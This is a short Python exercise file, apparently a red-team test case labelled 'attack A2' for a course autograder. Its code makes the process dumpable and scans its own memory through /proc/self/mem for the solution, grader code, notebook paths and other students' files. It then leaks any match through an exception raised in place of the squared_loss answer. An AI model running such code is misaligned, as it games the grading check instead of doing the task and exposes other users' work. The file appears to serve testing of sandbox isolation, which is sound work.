# attack: A2: what the parent left in memory: makes itself dumpable and searches its heap for the solution, graders, other students' files
# earns: linreg
# %%
import ctypes, re, time

ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
patterns = [
    re.compile(p)
    for p in (
        rb"[d]ef checked_pass\(batches",
        rb"[E]ach element's loss is",
        rb"@[e]xercise\(.squared_l",
        rb"[e]ach example once exp",
        rb"/[\w./-]+/nb/[\w-]+[.]ipynb",
        rb"[-]-course\x00",
        rb"[-]-seed\x00",
        rb"[p]aram -= lr \* param.grad / batch",
        rb"[s]tudent.squared_loss\(",
    )
]
hits, end = [], time.time() + 1.5
try:
    mem = open("/proc/self/mem", "rb", 0)
    for line in open("/proc/self/maps"):
        a, b, mode = re.match(r"(\w+)-(\w+) (\S+)", line).groups()
        a, b = int(a, 16), int(b, 16)
        if "r" not in mode or "/" in line or "[v" in line or time.time() > end or b - a > 300 << 20:
            continue
        try:
            mem.seek(a)
            data = mem.read(b - a)
        except (OSError, ValueError):
            continue
        hits += [data[max(0, m.start() - 40) : m.end() + 60] for p in patterns for m in [p.search(data)] if m]
except OSError as e:
    hits = []
found = f"LEAK {hits[:4]}" if hits else "nothing of others in memory"


# %% honest: linreg
# %%
def squared_loss(y_hat, y):
    raise ValueError(found)
